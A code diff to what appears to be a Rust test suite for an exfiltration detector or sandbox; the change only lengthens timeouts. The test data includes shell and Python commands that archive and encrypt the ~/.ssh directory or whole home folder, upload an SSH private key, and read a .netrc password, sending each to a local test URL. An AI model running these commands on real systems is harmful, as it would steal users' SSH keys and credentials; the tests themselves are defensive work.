@@ -51,7 +51,7 @@ fn run(home: &Path, work: &Path, url: &str, script: &str) -> u32 {
         .args(["-c", &format!("{script}\n:"), "x", url])
         .current_dir(work)
         .env("HOME", home)
-        .limit(30)
+        .limit(60)
         .run()
         .ok()
         .pid
@@ -67,15 +67,15 @@ pub fn packed_encrypted_and_uploaded() {
     let work = scratch.join("work");
     let enc = "openssl enc -aes-256-cbc -pbkdf2 -pass pass:x";
     let attacks = [
-        format!("tar -C \"$HOME\" -cz .ssh | {enc} | curl -skm 5 -T - \"$1\""),
+        format!("tar -C \"$HOME\" -cz .ssh | {enc} | curl -skm 60 -T - \"$1\""),
         format!(
-            "tar -C \"$HOME\" -czf a .ssh; {enc} -in a -out b; curl -skm 5 --data-binary @b \"$1\""
+            "tar -C \"$HOME\" -czf a .ssh; {enc} -in a -out b; curl -skm 60 --data-binary @b \"$1\""
         ),
     ];
     let twins = [
-        format!("tar -C \"$HOME/project\" -cz . | {enc} | curl -skm 5 -T - \"$1\""),
+        format!("tar -C \"$HOME/project\" -cz . | {enc} | curl -skm 60 -T - \"$1\""),
         // A backup of everything.
-        format!("tar -cz \"$HOME\" | {enc} | curl -skm 5 -T - \"$1\""),
+        format!("tar -cz \"$HOME\" | {enc} | curl -skm 60 -T - \"$1\""),
     ];
     for (n, attack) in attacks.iter().enumerate() {
         let home = home(&scratch, &format!("attack{n}"));
@@ -96,10 +96,10 @@ pub fn given_to_a_client_to_send() {
     let home = home(&scratch, "ada");
     let url = format!("http://127.0.0.1:{}/u", sink.port);
     let work = scratch.join("work");
-    let mut attacks = vec!["curl -sm 5 -F f=@\"$HOME/.ssh/id_ed25519\" \"$1\""];
+    let mut attacks = vec!["curl -sm 60 -F f=@\"$HOME/.ssh/id_ed25519\" \"$1\""];
     let mut twins = vec![
-        "curl -sm 5 -F f=@\"$HOME/.ssh/id_ed25519.pub\" \"$1\"",
-        "curl -sm 5 --netrc-file \"$HOME/.netrc\" -d x=y \"$1\"",
+        "curl -sm 60 -F f=@\"$HOME/.ssh/id_ed25519.pub\" \"$1\"",
+        "curl -sm 60 --netrc-file \"$HOME/.netrc\" -d x=y \"$1\"",
     ];
     // scp by a program in place of ssh that runs the other end here.
     let remote = "printf '#!/bin/bash\\nexec sh -c \"${!#}\"\\n' >r; chmod 755 r; ";
@@ -134,14 +134,14 @@ pub fn told_in_a_body() {
 home = os.environ['HOME']
 token = re.search('password (.*)', open(home + '/.netrc').read())[1]
 host, port = re.match('https://([^:/]+):(\\\\d+)', sys.argv[1]).groups()
-c = http.client.HTTPSConnection(host, int(port), context=ssl._create_unverified_context(), timeout=5)
+c = http.client.HTTPSConnection(host, int(port), context=ssl._create_unverified_context(), timeout=60)
 {code}
 c.getresponse().read()"
         );
         act("python3")
             .args(["-c", &text, &server.url("/")])
             .env("HOME", &home)
-            .limit(30)
+            .limit(60)
             .run()
             .ok()
             .pid
